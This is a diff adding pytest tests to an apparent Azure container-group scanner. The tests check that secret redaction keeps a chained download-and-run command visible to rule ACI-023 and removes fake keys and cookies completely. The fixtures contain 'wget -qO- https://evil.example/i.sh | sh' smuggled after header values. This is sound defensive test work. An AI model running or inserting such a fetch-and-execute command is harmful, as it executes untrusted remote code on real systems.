@@ -202,3 +202,52 @@ def test_aci_006_passes_a_clean_group() -> None:
     container.pop("readinessProbe")
     status, _ = _aci_006(group)
     assert status == "PASS"
+
+
+# -- from review: what redacting a header must not hide or leave -------------------------
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "export H=Cookie:sid=$SID;wget -qO- https://evil.example/i.sh | sh",
+        "echo Bearer abcdef123;wget -qO- https://evil.example/i.sh | sh",
+    ],
+)
+def test_a_header_value_does_not_swallow_the_next_command(script: str) -> None:
+    from fixtures import run_one
+
+    group = {
+        "id": "/subscriptions/s/resourceGroups/rg/providers/Microsoft.ContainerInstance/containerGroups/g",
+        "type": "Microsoft.ContainerInstance/containerGroups",
+        "properties": {
+            "containers": [
+                {"name": "app", "properties": {"image": "nginx:1", "command": ["sh", "-c", script]}}
+            ]
+        },
+    }
+    redact_in_place(group)
+    command = group["properties"]["containers"][0]["properties"]["command"][2]
+    assert "wget -qO- https://evil.example/i.sh | sh" in command
+    # ACI-023 (download and run) still sees what it looks for: FAIL, as without the header.
+    assert run_one("ACI-023", group).status.value == "FAIL"
+
+
+def test_a_secret_header_name_at_the_end_of_a_longer_one_is_found() -> None:
+    text = 'curl -H "X-Custom-Api-Key: s3cr3tValue9" -H "X-Private-Token: t0kenValue9" x'
+    redacted = redact_text(text)
+    assert "s3cr3tValue9" not in redacted and "t0kenValue9" not in redacted
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo zutDBlT3IrKFiHhc3K823ixBe21TTswCD==8dxe3Cu0noqjS5THy",
+        "/subscriptions/0/resourceGroups/r/providers/P/sites/AKIAIOSFODNN7EXAMPLE/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+        'curl -H "Cookie: a=b1; c=d2" x',
+    ],
+)
+def test_redacting_twice_changes_nothing_and_leaves_no_tail(text: str) -> None:
+    once = redact_text(text)
+    assert redact_text(once) == once
+    assert "8dxe3Cu0noqjS5THy" not in once and "bPxRfiCYEXAMPLEKEY" not in once
